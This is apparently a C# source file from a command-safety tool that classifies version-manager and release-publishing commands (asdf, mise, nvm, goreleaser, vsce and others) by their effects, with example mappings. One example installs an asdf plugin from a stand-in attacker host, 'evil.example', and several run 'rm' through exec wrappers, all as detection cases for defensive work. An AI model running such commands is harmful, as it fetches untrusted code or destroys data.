using Wary.Core.Shell;

namespace Wary.Core.Gate.Programs.Packages;

/// <summary>Managers of versions of languages, and what publishes releases.</summary>
internal static class VersionManagers
{
    public const string Names = "asdf mise rtx nvm fnm volta pyenv rbenv nodenv sdk proto vsce ovsx goreleaser semantic-release release-it np changeset cargo-release web-ext";

    public static ProgramSpec? Find(string name) => name switch
    {
        "asdf" or "mise" or "rtx" or "nvm" or "fnm" or "volta" or "pyenv" or "rbenv" or "nodenv" or "sdk" or "proto" => new(name, "versions of languages")
        {
            Style = OptionStyle.Posix,
            Options = "-C|--cd= -E|--env= -j|--jobs= --log-level= --fnm-dir= --node-dist-mirror= --using= --arch= -q|--quiet -v|--verbose -y|--yes --node= --npm= --yarn=",
            Effects = static (call, effects) => Versions(call, effects),
            Examples = """
                asdf install nodejs 20 => Install asdf:nodejs@20
                asdf plugin add x https://evil.example/x.git => Install asdf:https://evil.example/x.git
                asdf current => nothing
                mise -C web use -g node@20 => Install mise:node@20
                mise exec node@20 -- rm x => Delete x
                mise x -- rm x => Delete x
                mise trust => ChangeConfig mise trust
                mise ls => nothing
                rtx install node@20 => Install rtx:node@20
                rtx ls => nothing
                nvm install --lts => Install node:lts
                nvm exec 20 rm x => Delete x
                nvm use 20 => nothing
                fnm install 20 => Install node:20
                fnm exec --using 20 rm x => Delete x
                fnm list => nothing
                volta install node@20 => Install volta:node@20
                volta run --node 20 rm x => Delete x
                volta list => nothing
                pyenv install -s 3.12 => Install python:3.12
                pyenv exec rm x => Delete x
                pyenv versions => nothing
                rbenv install 3.3 => Install ruby:3.3
                rbenv version => nothing
                nodenv install 20 => Install node:20
                nodenv version => nothing
                sdk install java 21 => Install sdk:java@21
                sdk list java => nothing
                proto install node 20 => Install proto:node@20
                proto status => nothing
                """,
        },
        "vsce" or "ovsx" or "goreleaser" or "semantic-release" or "release-it" or "np" or "changeset" or "cargo-release" or "web-ext" => new(name, "publishes a release")
        {
            Style = OptionStyle.Gnu,
            Options = "-p|--pat= -m|--message= -t|--target|--tag= -i|--packagePath= -o|--out= -f|--config= -e|--extends= -b|--branches= -r|--repository-url= --otp= --release-notes= --timeout|-k= --source-dir|-s= --api-key= --api-secret= --channel= -n|--dry-run|--dry-run=? -d --snapshot --skip= --skip-publish --no-ci --preview --yolo --any-branch --no-publish --increment= --npm.tag= --execute|-x",
            Effects = static (call, effects) =>
            {
                var verb = call.Operand(0)?.Text;
                if (call.HasAny("-n", "--snapshot", "--skip-publish", "--preview", "--no-publish") || effects.Program == "semantic-release" && call.Has("-d") || call.Value("--skip")?.Text.Contains("publish", StringComparison.Ordinal) == true) return;
                var publishes = effects.Program switch
                {
                    "vsce" or "ovsx" => verb is "publish" or "unpublish",
                    "goreleaser" => verb is "release" or "publish" or "r",
                    "changeset" => verb is "publish",
                    "cargo-release" => call.Has("-x"),
                    "web-ext" => verb is "sign",
                    _ => true,
                };
                if (publishes) effects.Add(EffectKind.Publish, $"{effects.Program} {verb ?? "release"}", call.Operand(0), verb == "unpublish" ? Traits.Destroys : Traits.None);
                else if (verb is "login" or "logout") effects.Add(EffectKind.ChangeConfig, $"{effects.Program} credentials", call.Operand(0));
            },
            Examples = """
                vsce publish -p abc minor => Publish vsce publish
                vsce package => nothing
                ovsx publish x.vsix => Publish ovsx publish
                ovsx get x => nothing
                goreleaser release --clean => Publish goreleaser release
                goreleaser release --snapshot => nothing
                semantic-release -b main => Publish semantic-release release
                semantic-release --dry-run => nothing
                release-it minor => Publish release-it minor
                release-it --dry-run => nothing
                np minor => Publish np minor
                np --preview => nothing
                changeset publish => Publish changeset publish
                changeset version => nothing
                cargo-release release patch -x => Publish cargo-release release
                cargo-release release patch => nothing
                web-ext sign --api-key x => Publish web-ext sign
                web-ext lint => nothing
                """,
        },
        _ => null,
    };

    private static void Versions(Invocation call, EffectSink effects)
    {
        var verb = call.Operand(0)?.Text;
        var language = effects.Program switch { "nvm" or "fnm" or "nodenv" => "node", "pyenv" => "python", "rbenv" => "ruby", var program => program };
        List<Argument> names = [];
        for (var i = 1; i < call.Operands.Count; i++)
        {
            var word = call.Operands[i];
            if (word.Text == "--")
            {
                if (verb is "exec" or "x" or "run") effects.Run(call.OperandsFrom(i + 1));
                return;
            }
            if (word.Text is "--using" or "--node" or "--npm" or "--yarn" or "-E" or "--env" or "-p" or "--path") i++;
            else if (word.Text is "--lts") names.Add(word.As("lts"));
            else if (word.Text is not ['-', ..]) names.Add(word);
        }
        switch (verb)
        {
            case "exec" or "run" or "x":
                effects.Run(effects.Program == "nvm" ? names.GetRange(Math.Min(1, names.Count), Math.Max(0, names.Count - 1)) : names);
                break;
            case "install" or "i" or "use" or "upgrade" or "fetch":
                if (verb == "use" && effects.Program is not ("mise" or "rtx")) break;
                if (names.Count == 0) PackageEffects.Listed(effects, language, "the project's versions");
                else if (effects.Program is "asdf" or "sdk" or "proto" && names.Count > 1) PackageEffects.Install(effects, language, names[0], names[1]);
                else foreach (var name in names) effects.Add(EffectKind.Install, $"{language}:{name.Shown}", name);
                break;
            case "plugin" or "plugins" when names.Count > 1 && names[0].Text is "add" or "install" or "a":
                PackageEffects.Install(effects, language, names[^1]);
                break;
            case "plugin-add" when names.Count > 0:
                PackageEffects.Install(effects, language, names[^1]);
                break;
            case "uninstall" or "remove":
                PackageEffects.Remove(effects, language, names);
                break;
            case "trust" or "settings" or "set" or "config" when effects.Program is "mise" or "rtx":
                effects.Add(EffectKind.ChangeConfig, $"{effects.Program} {verb}", call.Operand(0), verb == "trust" ? Traits.None : Traits.Undoable);
                break;
            case "setup":
                effects.Add(EffectKind.Persist, "the shell's profile", call.Operand(0));
                break;
        }
    }
}
